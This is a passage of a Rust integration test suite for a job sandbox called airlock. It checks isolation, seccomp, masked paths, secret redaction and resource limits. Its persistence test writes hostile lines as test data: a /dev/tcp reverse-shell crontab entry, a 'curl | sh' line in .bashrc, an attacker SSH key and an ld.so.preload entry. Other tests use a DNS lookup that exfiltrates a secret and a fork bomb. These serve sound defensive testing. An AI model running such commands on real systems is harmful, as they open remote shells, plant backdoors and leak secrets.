//! `airlock run` end to end, as root: every hardening item checked from inside a job, the
//! spec's scenario 1, isolation between concurrent jobs, resource exhaustion, teardown on
//! every path, and fail-closed behaviour.

mod common;

use std::collections::BTreeMap;
use std::process::Stdio;
use std::time::{Duration, Instant};

use common::*;

/// Parses `key=value` lines (later keys win; `visible=` lines are collected).
fn facts(out: &str) -> (BTreeMap<String, String>, Vec<String>) {
    let mut m = BTreeMap::new();
    let mut visible = Vec::new();
    for l in out.lines() {
        if let Some((k, v)) = l.split_once('=') {
            if k == "visible" {
                visible.push(v.to_owned());
            } else {
                m.insert(k.to_owned(), v.to_owned());
            }
        }
    }
    (m, visible)
}

/// The OCI runtime spec's default masked paths, then the few airlock adds (spec.rs).
const MASKED: &[&str] = &[
    "/proc/acpi",
    "/proc/asound",
    "/proc/kcore",
    "/proc/keys",
    "/proc/latency_stats",
    "/proc/timer_list",
    "/proc/timer_stats",
    "/proc/sched_debug",
    "/sys/firmware",
    "/proc/scsi",
    "/proc/kallsyms",
    "/sys/kernel/debug",
    "/sys/devices/virtual/powercap",
];
/// The OCI runtime spec's default read-only paths.
const READONLY: &[&str] = &[
    "/proc/bus",
    "/proc/fs",
    "/proc/irq",
    "/proc/sys",
    "/proc/sysrq-trigger",
];

const HARDENING_SCRIPT: &str = r#"
echo "uid=$(id -u)"
echo "gid=$(id -g)"
for f in CapInh CapPrm CapEff CapBnd CapAmb NoNewPrivs Seccomp; do
  echo "$f=$(awk -v k="$f:" '$1==k{print $2}' /proc/self/status)"
done
for n in pid mnt ipc uts net cgroup; do echo "ns_$n=$(readlink /proc/self/ns/$n)"; done
echo "nprocs=$(ls /proc | grep -cE '^[0-9]+$')"
echo "netdevs=$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | sort | tr '\n' ,)"
echo "cgroup=$(cat /proc/self/cgroup | tail -n 1 | cut -d: -f3)"
for p in /root /home/runner/../admin /var/run/docker.sock /run/docker.sock /etc/shadow /etc/gshadow \
         /etc/ssh /root/.ssh /var/lib /var/log /boot /opt /srv /mnt /media /lost+found \
         /home/runner/.aws /home/runner/.kube /home/runner/.docker /home/runner/.ssh \
         /run/airlock /sys/fs/cgroup/memory /dev/kvm /dev/sda /dev/vda /dev/mem /dev/kmsg; do
  [ -e "$p" ] && echo "visible=$p"
done
echo "home=$(ls -A /home | tr '\n' ,)"
echo "dev=$(ls /dev | sort | tr '\n' ,)"
echo "devnodes=$(find /dev -type c -o -type b | sort | tr '\n' ,)"
touch /usr/bin/airlock-test 2>/dev/null && echo "usr_writable=yes"
touch /etc/ssl/certs/airlock-test 2>/dev/null && echo "certs_writable=yes"
echo x > /sys/kernel/uevent_helper 2>/dev/null && echo "sys_writable=yes"
echo h > /proc/sysrq-trigger 2>/dev/null && echo "sysrq_writable=yes"
echo "sys_opts=$(awk '$2=="/sys"{print $4}' /proc/mounts)"
echo "usr_opts=$(awk '$2=="/usr"{print $4}' /proc/mounts)"
for m in /proc/kcore /proc/keys /proc/timer_list /proc/sched_debug /proc/kallsyms; do
  [ -e "$m" ] && echo "masked_$m=$(head -c 64 $m 2>/dev/null | wc -c)"
done
# The topmost mount on a path: its per-mount options and its filesystem type.
mnt() {
  awk -v m="$1" '$5==m{o=$6; for(i=7;i<=NF;i++) if($i=="-"){t=$(i+1); break}} END{print o" "t}' /proc/self/mountinfo
}
for p in $READONLY; do [ -e "$p" ] && echo "ro_$p=$(mnt "$p")"; done
for p in $MASKED; do
  if [ -c "$p" ]; then echo "mask_$p=chr $(stat -Lc '%t:%T' "$p")"
  elif [ -d "$p" ]; then echo "mask_$p=dir $(ls -A "$p" | wc -l) $(mnt "$p")"
  elif [ -e "$p" ]; then echo "mask_$p=other $(stat -Lc %F "$p")"
  fi
done
echo "sysfirmware=$(ls /sys/firmware 2>/dev/null | wc -l)"
echo "certs=$(ls /etc/ssl/certs | wc -l)"
echo "nofile=$(ulimit -n)"
echo "core=$(ulimit -c)"
echo "etc=$(ls -A /etc | sort | tr '\n' ,)"
echo "passwd=$(tr '\n' '|' < /etc/passwd)"
echo "group=$(tr '\n' '|' < /etc/group)"
echo "hosts=$(tr '\t\n' ' |' < /etc/hosts)"
echo "hostname=$(cat /proc/sys/kernel/hostname)"
echo "resolv=$(tr '\n' '|' < /etc/resolv.conf)"
echo "gateway=$(awk '$2=="00000000"{print $3}' /proc/net/route)"
echo "nsswitch=$(tr '\n' '|' < /etc/nsswitch.conf)"
echo "syscalls=$(./airlock-probe syscalls)"
"#;

/// Runs [`HARDENING_SCRIPT`] as a job of world `w` (`extra`: more `airlock run` arguments).
fn run_hardening_script(w: &World, extra: &[&str]) -> std::process::Output {
    let script = format!(
        "MASKED='{}'\nREADONLY='{}'\n{HARDENING_SCRIPT}",
        MASKED.join(" "),
        READONLY.join(" ")
    );
    w.sh(extra, &script)
}

/// Every hardening item of issue 2, checked on what [`HARDENING_SCRIPT`] saw inside the job
/// (`o`, from a run without `-q`) and on the audit log of world `w`. Every executor that
/// claims to harden a job is held to this one list.
fn assert_hardened(w: &World, o: &std::process::Output) {
    assert!(o.status.success(), "{}\n{}", stdout(o), stderr(o));
    let (f, visible) = facts(&stdout(o));
    let get = |k: &str| f.get(k).cloned().unwrap_or_default();

    assert_eq!(get("uid"), "1001", "non-root uid");
    assert_eq!(get("gid"), "1001");
    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert_eq!(get(cap), "0000000000000000", "{cap} must be empty");
    }
    assert_eq!(get("NoNewPrivs"), "1");
    assert_eq!(get("Seccomp"), "2", "seccomp filter mode");

    // Every namespace differs from the test's own.
    for n in ["pid", "mnt", "ipc", "uts", "net", "cgroup"] {
        let host = std::fs::read_link(format!("/proc/self/ns/{n}")).expect("own ns");
        assert_ne!(
            get(&format!("ns_{n}")),
            host.to_string_lossy(),
            "{n} namespace shared with the host"
        );
    }
    // pid namespace: only the job's few processes are visible.
    let nprocs: usize = get("nprocs").parse().expect("nprocs");
    assert!(nprocs <= 6, "host processes visible: {nprocs}");
    assert_eq!(
        get("netdevs"),
        "eth0,lo,",
        "loopback and the job's veth, nothing else"
    );
    assert_eq!(
        get("cgroup"),
        "/",
        "cgroup namespace hides the host's hierarchy"
    );

    assert!(
        visible.is_empty(),
        "host paths visible in the job: {visible:?}"
    );
    assert_eq!(get("home"), "runner,");
    assert_eq!(
        get("devnodes"),
        "/dev/full,/dev/null,/dev/pts/ptmx,/dev/random,/dev/tty,/dev/urandom,/dev/zero,",
        "device nodes beyond the allowed set"
    );
    for w in [
        "usr_writable",
        "certs_writable",
        "sys_writable",
        "sysrq_writable",
    ] {
        assert!(!f.contains_key(w), "{w}");
    }
    assert!(
        get("sys_opts").split(',').any(|o| o == "ro"),
        "/sys is {}",
        get("sys_opts")
    );
    assert!(
        get("usr_opts").split(',').any(|o| o == "ro"),
        "/usr is {}",
        get("usr_opts")
    );
    for (k, v) in f.iter().filter(|(k, _)| k.starts_with("masked_")) {
        assert_eq!(v, "0", "{k} readable");
    }
    assert_eq!(get("sysfirmware"), "0", "/sys/firmware masked");
    assert_read_only_and_masked_paths(&f);
    assert!(
        get("certs").parse::<u32>().unwrap_or(0) > 10,
        "CA certificates missing"
    );
    assert_eq!(get("nofile"), "1024");
    assert_eq!(get("core"), "0");
    assert_synthesized_etc(&f);
    assert_syscalls_denied_by_the_filter(w, o, &get("syscalls"));
}

/// The OCI default read-only paths are read-only mounts, and each masked path that exists
/// in the job is `/dev/null` or an empty read-only tmpfs.
fn assert_read_only_and_masked_paths(f: &BTreeMap<String, String>) {
    let mut problems = Vec::new();
    assert!(
        f.contains_key("ro_/proc/sys"),
        "/proc/sys is missing in the job"
    );
    for p in READONLY {
        let Some(m) = f.get(&format!("ro_{p}")) else {
            continue; // not in this kernel
        };
        let opts = m.split(' ').next().unwrap_or("");
        if !opts.split(',').any(|o| o == "ro") {
            problems.push(format!("{p} is not mounted read-only: {m:?}"));
        }
    }
    let mut masked = 0;
    for p in MASKED {
        let Some(m) = f.get(&format!("mask_{p}")) else {
            continue; // not in this kernel
        };
        masked += 1;
        let parts: Vec<&str> = m.split(' ').collect();
        match parts.as_slice() {
            ["chr", "1:3"] => {}
            ["dir", "0", opts, "tmpfs"] if opts.split(',').any(|o| o == "ro") => {}
            _ => problems.push(format!(
                "{p} is not masked (want /dev/null or an empty read-only tmpfs): {m:?}"
            )),
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    // /proc/keys, /proc/timer_list, /proc/kallsyms and /sys/firmware exist on every kernel
    // that runs the tests.
    assert!(masked >= 4, "only {masked} masked paths exist: {f:?}");
}

/// `/etc` is airlock's, not the host's: exactly the synthesized users and groups, the job's
/// own hosts and resolver, and no more files than those airlock puts there.
fn assert_synthesized_etc(f: &BTreeMap<String, String>) {
    let get = |k: &str| f.get(k).cloned().unwrap_or_default();
    let lines = |k: &str| -> Vec<String> {
        get(k)
            .split('|')
            .filter(|l| !l.is_empty())
            .map(str::to_owned)
            .collect()
    };
    let names = |k: &str| -> Vec<String> {
        lines(k)
            .iter()
            .map(|l| l.split(':').next().unwrap_or("").to_owned())
            .collect()
    };
    let mut problems = Vec::new();
    if names("passwd") != ["root", "runner", "nobody"] {
        problems.push(format!("/etc/passwd has other users: {}", get("passwd")));
    }
    if !lines("passwd")
        .iter()
        .any(|l| l == "runner:x:1001:1001:airlock job user:/home/runner:/bin/sh")
    {
        problems.push(format!("no runner entry in /etc/passwd: {}", get("passwd")));
    }
    if lines("passwd")
        .iter()
        .any(|l| l.split(':').nth(1) != Some("x"))
    {
        problems.push(format!("a password in /etc/passwd: {}", get("passwd")));
    }
    if names("group") != ["root", "runner", "nogroup"] {
        problems.push(format!("/etc/group has other groups: {}", get("group")));
    }
    let hostname = get("hostname");
    let hosts = format!(
        "127.0.0.1 localhost|::1 localhost ip6-localhost ip6-loopback|127.0.1.1 {hostname}|"
    );
    if !hostname.starts_with("airlock-") || get("hosts") != hosts {
        problems.push(format!(
            "/etc/hosts is {:?} (hostname {hostname})",
            get("hosts")
        ));
    }
    // The resolver is the job's gateway (its DNS proxy), never the host's.
    let gw = u32::from_str_radix(&get("gateway"), 16).expect("default route");
    let gw = std::net::Ipv4Addr::from(gw.swap_bytes());
    if !get("resolv").starts_with(&format!("nameserver {gw}|"))
        || get("resolv").matches("nameserver").count() != 1
    {
        problems.push(format!(
            "/etc/resolv.conf is {:?}, not the gateway {gw}",
            get("resolv")
        ));
    }
    let nsswitch = "passwd: files|group: files|shadow: files|hosts: files dns|networks: files|\
                    protocols: files|services: files|";
    if get("nsswitch") != nsswitch {
        problems.push(format!("/etc/nsswitch.conf is {:?}", get("nsswitch")));
    }
    // Exactly what airlock writes, plus the non-secret files build_base copies from the host
    // (each only where the host has it).
    let written = [
        "group",
        "hostname",
        "hosts",
        "nsswitch.conf",
        "passwd",
        "resolv.conf",
        "ssl",
    ];
    let copied = [
        "alternatives",
        "ld.so.cache",
        "ld.so.conf",
        "localtime",
        "mime.types",
        "os-release",
    ];
    let etc = get("etc");
    let etc: Vec<&str> = etc.split(',').filter(|e| !e.is_empty()).collect();
    for want in written {
        if !etc.contains(&want) {
            problems.push(format!("/etc/{want} missing"));
        }
    }
    for e in &etc {
        if !written.contains(e) && !copied.contains(e) {
            problems.push(format!("/etc/{e} is not synthesized by airlock"));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

/// Each probed call got the expected errno, and each denial is on the audit log as a
/// `syscall.denied` of this job: the filter stopped it, not a missing capability (which
/// answers the same EPERM but leaves no record).
fn assert_syscalls_denied_by_the_filter(w: &World, o: &std::process::Output, json: &str) {
    let sc: serde_json::Value = serde_json::from_str(json).expect("probe json");
    let sc = sc.as_object().expect("object");
    for must in ["unshare_user", "clone_newuser", "clone_newuts"] {
        assert!(sc.contains_key(must), "{must} not probed");
    }
    let id = job_id(o).expect("job id in airlock's summary");
    let denied: Vec<serde_json::Value> = records(w, "syscall.denied")
        .into_iter()
        .filter(|r| r["job"] == id.as_str())
        .collect();
    // The filter's record of a call; for clone, of the one with this namespace flag.
    let recorded = |syscall: &str, flag: Option<&str>| {
        denied.iter().any(|r| {
            r["data"]["syscall"] == syscall
                && flag.is_none_or(|f| r["data"]["reason"].as_str().unwrap_or("").contains(f))
        })
    };
    // Every failure at once: a weakened profile usually lets more than one call through.
    let mut problems = Vec::new();
    let mut discriminating = 0;
    for (name, r) in sc {
        let errno = r["errno"].as_i64().expect("errno");
        let syscall = r["syscall"].as_str().expect("syscall name");
        match name.as_str() {
            "fork" if errno != 0 => problems.push(format!("plain fork failed (errno {errno})")),
            "fork" => {}
            // Answered ENOSYS in the kernel, unrecorded (seccomp.rs: libc falls back to clone).
            "clone3" if errno != 38 => problems.push(format!("clone3: errno {errno}, not ENOSYS")),
            "clone3" => {}
            _ => {
                if errno != 1 {
                    problems.push(format!("{name} was not denied with EPERM (errno {errno})"));
                }
                let flag = match name.as_str() {
                    "clone_newuser" => Some("CLONE_NEWUSER"),
                    "clone_newuts" => Some("CLONE_NEWUTS"),
                    _ => None,
                };
                // Refused in the kernel without a record, on purpose (seccomp.rs
                // REFUSED_QUIETLY: NUMA probes of ordinary tools such as `ps`).
                let quiet = airlock_sandbox::seccomp::REFUSED_QUIETLY
                    .iter()
                    .any(|(n, _)| *n == syscall);
                if !quiet && !recorded(syscall, flag) {
                    let call = match flag {
                        Some(f) => format!("{syscall} with {f}"),
                        None => syscall.to_owned(),
                    };
                    problems.push(format!(
                        "{name}: no syscall.denied record of {call} for job {id}: the EPERM \
                         came from the kernel, not the filter"
                    ));
                }
            }
        }
        if r["discriminating"] == serde_json::Value::Bool(true) {
            discriminating += 1;
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    assert!(sc.len() >= 37, "probe covered {} calls", sc.len());
    assert!(
        discriminating >= 16,
        "only {discriminating} calls prove the filter itself"
    );
}

#[test]
fn hardening_holds_inside_the_job() {
    need_root!();
    let w = World::new();
    let o = run_hardening_script(&w, &[]);
    assert_hardened(&w, &o);
    assert_job_gone(&o);
    w.assert_clean();
}

#[test]
fn scenario1_persistence_does_not_survive_into_the_next_job() {
    need_root!();
    let w = World::new();
    std::fs::write(w.ws().join("README"), "original\n").expect("write");
    let plant = r#"
mkdir -p ~/.ssh ~/.config/systemd/user /var/spool/cron/crontabs 2>/dev/null
echo '* * * * * runner sh -i >& /dev/tcp/203.0.113.1/4444 0>&1' > /var/spool/cron/crontabs/runner 2>/dev/null || echo "crontab-denied"
echo '* * * * * runner /tmp/backdoor' > /etc/cron.d/backdoor 2>/dev/null || echo "cron.d-denied"
echo '* * * * * /tmp/backdoor' > ~/.crontab
echo 'curl http://203.0.113.1/x | sh' >> ~/.bashrc
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker attacker' >> ~/.ssh/authorized_keys
printf '[Service]\nExecStart=/tmp/backdoor\n' > ~/.config/systemd/user/backdoor.service
echo /tmp/evil.so > /etc/ld.so.preload 2>/dev/null || echo "preload-denied"
echo evil > /tmp/backdoor
echo evil > /var/tmp/backdoor
echo evil > /dev/shm/backdoor
echo tampered > README
mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout
echo planted
"#;
    let o = w.sh(&[], plant);
    let out = stdout(&o);
    assert!(o.status.success(), "{out}\n{}", stderr(&o));
    assert!(out.contains("planted"), "{out}");
    assert!(
        out.contains("preload-denied"),
        "ld.so.preload writable: {out}"
    );
    assert!(out.contains("cron.d-denied"), "{out}");
    w.assert_clean();

    let check = r#"
for p in ~/.crontab ~/.bashrc ~/.ssh ~/.config /var/spool/cron /etc/cron.d/backdoor \
         /etc/ld.so.preload /tmp/backdoor /var/tmp/backdoor /dev/shm/backdoor .git; do
  [ -e "$p" ] && echo "survived=$p"
done
echo "readme=$(cat README)"
echo checked
"#;
    let o = w.sh(&[], check);
    let out = stdout(&o);
    assert!(out.contains("checked"), "{out}\n{}", stderr(&o));
    assert!(!out.contains("survived="), "persistence survived: {out}");
    assert!(out.contains("readme=original"), "{out}");
    // The host's copy of the workspace was never touched.
    assert_eq!(
        std::fs::read_to_string(w.ws().join("README")).expect("read"),
        "original\n"
    );
    assert!(!w.ws().join(".git").exists());
    w.assert_clean();
}

#[test]
fn concurrent_jobs_cannot_see_each_other() {
    need_root!();
    let w = World::new();
    let a = {
        let mut c = w.cmd();
        c.args(["run", "--", "/bin/sh", "-c"])
            .arg("echo secret-a > /tmp/marker-a; echo a > ~/a; sleep 4; echo done-a")
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        c.spawn().expect("spawn a")
    };
    std::thread::sleep(Duration::from_millis(1500));
    let o = w.sh(
        &[],
        r#"echo "tmp=$(ls -A /tmp | tr '\n' ,)"; echo "home=$(ls -A ~ | tr '\n' ,)";
           echo "sleepers=$(for p in /proc/[0-9]*; do cat $p/cmdline 2>/dev/null | tr '\0' ' '; echo; done | grep -c '^sleep 4 $')";
           echo "nprocs=$(ls /proc | grep -cE '^[0-9]+$')""#,
    );
    let (f, _) = facts(&stdout(&o));
    assert_eq!(f.get("tmp").map(String::as_str), Some(""), "{f:?}");
    assert!(!f["home"].contains('a'), "{f:?}");
    assert_eq!(f.get("sleepers").map(String::as_str), Some("0"), "{f:?}");
    let a = a.wait_with_output().expect("a");
    assert!(String::from_utf8_lossy(&a.stdout).contains("done-a"));
    w.assert_clean();
}

#[test]
fn exit_code_and_output_stream_through() {
    need_root!();
    let w = World::new();
    let o = w.sh(&[], "echo to-stdout; echo to-stderr >&2; exit 7");
    assert_eq!(o.status.code(), Some(7));
    assert_eq!(stdout(&o), "to-stdout\n");
    assert!(stderr(&o).contains("to-stderr"));
    assert!(stderr(&o).contains("exited 7"), "{}", stderr(&o));
    assert_job_gone(&o);
    w.assert_clean();
}

#[test]
fn environment_starts_empty_except_what_the_policy_lists() {
    need_root!();
    let w = World::new();
    let p = w.policy("version = 1\n[groups.default]\nenv = [\"LISTED\", \"ABSENT\"]\n");
    let mut c = w.cmd();
    c.env("LISTED", "yes")
        .env("UNLISTED", "leak")
        .env("AWS_SECRET_ACCESS_KEY", "leak")
        .env("SSH_AUTH_SOCK", "/tmp/agent")
        .args(["run", "-p"])
        .arg(&p)
        .args(["--", "/usr/bin/env"]);
    let o = c.output().expect("run");
    let out = stdout(&o);
    assert!(o.status.success(), "{}", stderr(&o));
    let names: Vec<&str> = out
        .lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, _)| k)
        .collect();
    assert!(out.contains("LISTED=yes\n"), "{out}");
    for n in &names {
        assert!(
            [
                "PATH",
                "HOME",
                "USER",
                "LOGNAME",
                "AIRLOCK_JOB_ID",
                "AIRLOCK_GROUP",
                "LISTED"
            ]
            .contains(n),
            "unexpected variable {n} in the job: {out}"
        );
    }
    assert!(!out.contains("leak") && !out.contains("agent"), "{out}");
    w.assert_clean();
}

#[test]
fn secrets_are_env_only_and_never_printed_or_stored() {
    need_root!();
    let w = World::new();
    let value = "s3cr3t-Value-7f2e9c";
    let p = w.policy("version = 1\n[groups.default]\nsecrets = [\"TOKEN\", \"FROM_ENV\"]\n");
    let sf = w.dir.path().join("secrets.toml");
    std::fs::write(&sf, format!("TOKEN = \"{value}\"\n")).expect("secrets");
    let report = w.dir.path().join("report.json");
    let script = r#"
printf %s "$TOKEN" | sha256sum | cut -c1-16
printf %s "$FROM_ENV" | sha256sum | cut -c1-16
grep -rlsF --exclude-dir=proc --exclude-dir=sys "$TOKEN" / | head -n 3 | sed 's/^/found-in=/'
getent hosts "$TOKEN.exfil.test" >/dev/null
sleep 1.5
"#;
    let mut c = w.cmd();
    c.env("FROM_ENV", format!("{value}-env"))
        .args(["run", "-p"])
        .arg(&p)
        .arg("--secrets")
        .arg(&sf)
        .arg("--report")
        .arg(&report)
        .args(["--", "/bin/sh", "-c", script])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let child = c.spawn().expect("spawn");
    // While the job runs: nothing under airlock's state (the bundle included) holds the value.
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut checked = false;
    while Instant::now() < deadline && !checked {
        std::thread::sleep(Duration::from_millis(100));
        for e in walk(&w.state().join("jobs")) {
            if e.ends_with("init.pid") {
                checked = true;
            }
        }
    }
    assert!(checked, "job never started");
    std::thread::sleep(Duration::from_millis(300));
    for f in walk(&w.state()) {
        let s = f.to_string_lossy();
        if s.contains("/rootfs/") || s.contains("/mnt/") {
            continue; // the job's own filesystem, searched from inside
        }
        if let Ok(data) = std::fs::read(&f) {
            assert!(
                !String::from_utf8_lossy(&data).contains(value),
                "secret value stored in {}",
                f.display()
            );
        }
    }
    let o = child.wait_with_output().expect("wait");
    let out = stdout(&o);
    let err = stderr(&o);
    assert!(o.status.success(), "{out}\n{err}");
    let sha = |s: &str| {
        use std::io::Write;
        let mut c = std::process::Command::new("sha256sum")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("sha256sum");
        c.stdin
            .take()
            .expect("stdin")
            .write_all(s.as_bytes())
            .expect("write");
        String::from_utf8_lossy(&c.wait_with_output().expect("out").stdout)[..16].to_owned()
    };
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], sha(value), "secret from the file reached the job");
    assert_eq!(
        lines[1],
        sha(&format!("{value}-env")),
        "secret from the environment reached the job"
    );
    assert!(
        !out.contains("found-in="),
        "secret written to a file in the sandbox: {out}"
    );
    assert!(!err.contains(value) && !out.contains(value));
    let rep = std::fs::read_to_string(&report).expect("report");
    assert!(!rep.contains(value));
    assert!(
        !rep.to_ascii_lowercase()
            .contains(&value.to_ascii_lowercase()),
        "the secret, lower-cased (a DNS name), is in the report"
    );
    // The DNS query that carried it is in the report's egress records, by the secret's name.
    assert!(rep.contains("[secret:TOKEN].exfil.test"), "{rep}");
    // The job put the value on a command line (grep's argv): the audit log records the exec,
    // with the secret's name in place of its value. Nothing in the data dir holds the value.
    let mut redacted = false;
    for f in walk(&w.data()) {
        if let Ok(data) = std::fs::read(&f) {
            let text = String::from_utf8_lossy(&data);
            assert!(
                !text.contains(value),
                "secret value stored in {}",
                f.display()
            );
            // Lower-cased too: the gateway records DNS names in lower case.
            assert!(
                !text
                    .to_ascii_lowercase()
                    .contains(&value.to_ascii_lowercase()),
                "secret value (lower-cased) stored in {}",
                f.display()
            );
            redacted |= text.contains("[secret:TOKEN]");
        }
    }
    assert!(
        redacted,
        "the exec with the secret on its command line was not recorded"
    );
    w.assert_clean();
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let Ok(rd) = std::fs::read_dir(dir) else {
        return out;
    };
    for e in rd.flatten() {
        let p = e.path();
        match e.file_type() {
            Ok(t) if t.is_dir() => {
                let s = p.to_string_lossy();
                if !s.ends_with("/rootfs") && !s.ends_with("/mnt") {
                    out.extend(walk(&p));
                }
            }
            Ok(t) if t.is_file() => out.push(p),
            _ => {}
        }
    }
    out
}

#[test]
fn missing_secret_refuses_the_job() {
    need_root!();
    let w = World::new();
    let p = w.policy("version = 1\n[groups.default]\nsecrets = [\"NOT_SET_ANYWHERE\"]\n");
    let mut c = w.cmd();
    c.env_remove("NOT_SET_ANYWHERE")
        .args(["run", "-p"])
        .arg(&p)
        .args(["--", "true"]);
    let o = c.output().expect("run");
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("NOT_SET_ANYWHERE"), "{}", stderr(&o));
    w.assert_clean();
}

#[test]
fn exhaustion_is_contained_and_siblings_keep_working() {
    need_root!();
    let w = World::new();
    let p = w.policy(
        r#"version = 1
[groups.default]
[groups.small]
limits = { pids = 64, memory = "64MiB", disk = "16MiB", timeout = "6s" }
"#,
    );
    let ps = p.to_string_lossy().into_owned();
    let spawn = |script: &str| {
        let mut c = w.cmd();
        c.args(["run", "-p", &ps, "-g", "small", "-w"])
            .arg(w.ws())
            .args(["--", "/bin/sh", "-c", script])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        c.spawn().expect("spawn")
    };
    let bomb = spawn("bomb() { bomb | bomb & }; bomb; sleep 30");
    let hog = spawn("./airlock-probe alloc 1024");
    let fill = spawn(
        "dd if=/dev/zero of=/tmp/fill bs=1M count=64 2>&1 | grep -o 'No space left on device'; echo size=$(du -m /tmp/fill | cut -f1); dd if=/dev/zero of=$HOME/more bs=1M count=8 2>/dev/null; echo more=$?",
    );
    // The bomb's pids cgroup, found through one of its processes (airlock's own command
    // line holds the same text, but lives outside any job cgroup).
    let deadline = Instant::now() + Duration::from_secs(10);
    let bomb_pids = loop {
        if let Some(d) = job_cgroup_of_process("bomb() {").and_then(|id| {
            cgroups_of(&id)
                .into_iter()
                .find(|d| d.join("pids.max").exists())
        }) {
            break d;
        }
        assert!(
            Instant::now() < deadline,
            "the fork bomb's cgroup never appeared"
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    let read = |f: &str| {
        std::fs::read_to_string(bomb_pids.join(f))
            .unwrap_or_default()
            .trim()
            .to_owned()
    };
    let pids_max = read("pids.max");
    // Sample the bomb's process count while it runs: the limit must hold throughout.
    let mut peak = 0u64;
    let sampling = Instant::now();
    while sampling.elapsed() < Duration::from_millis(1500) {
        peak = peak.max(read("pids.current").parse().unwrap_or(0));
        std::thread::sleep(Duration::from_millis(10));
    }
    // pids.events counts forks the limit refused: the bomb hit the limit, not some other wall.
    let refused: u64 = read("pids.events")
        .lines()
        .find_map(|l| l.strip_prefix("max "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0);
    let mut problems = Vec::new();
    if pids_max != "64" {
        problems.push(format!(
            "pids.max of {} is {pids_max:?}",
            bomb_pids.display()
        ));
    }
    if peak > 64 {
        problems.push(format!("{peak} processes in a job limited to 64"));
    }
    // A refused fork means the count reached pids.max. A bomb can grow to the limit and
    // collapse (its shells exit when a fork fails) before sampling starts on a busy machine:
    // then the refusals are the proof that it grew, and the peak seen says nothing.
    if peak < 32 && refused == 0 {
        problems.push(format!(
            "the bomb never grew ({peak} processes): nothing was tested"
        ));
    }
    if refused == 0 {
        problems.push(format!(
            "the pids limit never refused a fork (pids.events: {:?})",
            read("pids.events")
        ));
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    // A sibling job in the default group and the host still work while all three run.
    let o = w.sh(&[], "echo sibling-ok; ls /proc | grep -cE '^[0-9]+$'");
    assert!(stdout(&o).contains("sibling-ok"), "{}", stderr(&o));
    let host = std::process::Command::new("true")
        .status()
        .expect("host fork");
    assert!(host.success());

    let bomb = bomb.wait_with_output().expect("bomb");
    assert_eq!(
        bomb.status.code(),
        Some(124),
        "fork bomb ends by timeout: {}",
        stderr(&bomb)
    );
    // From inside too: the shell was told it could not fork.
    assert!(stderr(&bomb).contains("Cannot fork"), "{}", stderr(&bomb));
    let hog = hog.wait_with_output().expect("hog");
    assert_eq!(
        hog.status.code(),
        Some(137),
        "memory hog is OOM-killed: {}",
        stderr(&hog)
    );
    assert!(!stdout(&hog).contains("allocated all"), "{}", stdout(&hog));
    let fill = fill.wait_with_output().expect("fill");
    let out = stdout(&fill);
    assert!(out.contains("No space left on device"), "{out}");
    let size: u64 = out
        .lines()
        .find_map(|l| l.strip_prefix("size="))
        .and_then(|s| s.trim().parse().ok())
        .expect("size");
    assert!(size <= 16, "wrote {size} MiB through a 16 MiB disk limit");
    w.assert_clean();
}

#[test]
fn cpu_limit_holds_inside_the_job() {
    need_root!();
    let w = World::new();
    let p = w.policy("version = 1\n[groups.default]\nlimits = { cpus = 0.2 }\n");
    let o = w.sh(&["-p", &p.to_string_lossy()], "./airlock-probe spin 1500");
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    let field = |k: &str| -> u64 {
        out.split_whitespace()
            .find_map(|f| f.strip_prefix(k))
            .and_then(|v| v.parse().ok())
            .unwrap_or_else(|| panic!("no {k} in {out:?}"))
    };
    let (wall, cpu) = (field("wall_ms="), field("cpu_ms="));
    assert!(wall >= 1500, "{out}");
    // A quota of 0.2 CPU gives about 0.2 × wall; without it a busy loop gets about 1.0 ×.
    assert!(
        cpu * 2 <= wall,
        "a job limited to 0.2 CPU used {cpu} ms of CPU in {wall} ms"
    );
    assert_job_gone(&o);
    w.assert_clean();
}

#[test]
fn timeout_kills_the_whole_process_tree() {
    need_root!();
    let w = World::new();
    let p = w.policy("version = 1\n[groups.default]\nlimits = { timeout = \"2s\" }\n");
    let t = Instant::now();
    let mut c = w.cmd();
    c.args(["run", "-p"]).arg(&p).args([
        "--",
        "/bin/sh",
        "-c",
        "sleep 1231 & (sleep 1232 &) ; setsid sleep 1233 & wait",
    ]);
    let o = c.output().expect("run");
    assert_eq!(o.status.code(), Some(124), "{}", stderr(&o));
    assert!(stderr(&o).contains("timeout"), "{}", stderr(&o));
    assert!(t.elapsed() < Duration::from_secs(20));
    assert!(
        no_process_with("sleep 123"),
        "a process of the job survived the timeout"
    );
    assert_job_gone(&o);
    w.assert_clean();
}

/// The job (`/airlock/<id>` cgroup) of the first process whose command line contains
/// `needle`.
fn job_cgroup_of_process(needle: &str) -> Option<String> {
    for e in std::fs::read_dir("/proc").ok()?.flatten() {
        let cmd = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
        if !String::from_utf8_lossy(&cmd).contains(needle) {
            continue;
        }
        let cg = std::fs::read_to_string(e.path().join("cgroup")).unwrap_or_default();
        if let Some(id) = cg.lines().find_map(|l| {
            l.split_once("/airlock/")
                .map(|(_, id)| id.trim().to_owned())
                .filter(|id| id.starts_with('j'))
        }) {
            return Some(id);
        }
    }
    None
}

fn no_process_with(needle: &str) -> bool {
    let Ok(rd) = std::fs::read_dir("/proc") else {
        return true;
    };
    !rd.flatten().any(|e| {
        std::fs::read(e.path().join("cmdline"))
            .map(|c| {
